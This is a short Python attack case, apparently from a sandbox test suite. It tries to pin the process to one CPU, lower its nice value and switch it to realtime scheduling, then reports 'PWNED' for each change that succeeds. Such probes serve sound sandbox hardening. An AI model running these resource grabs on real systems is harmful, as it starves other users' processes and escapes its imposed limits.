# attack: priority-and-processors
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: dos-cpu
# success: takes a better place than others, or another processor
import os
def run():
    moved = []
    for name, move in {"affinity": lambda: os.sched_setaffinity(0, {0}), "nice": lambda: os.nice(-5), "realtime": lambda: os.sched_setscheduler(0, 1, os.sched_param(1))}.items():
        try:
            move()
        except OSError:
            continue
        moved.append(name)
    return "PWNED " + ",".join(moved) if moved else "refused"
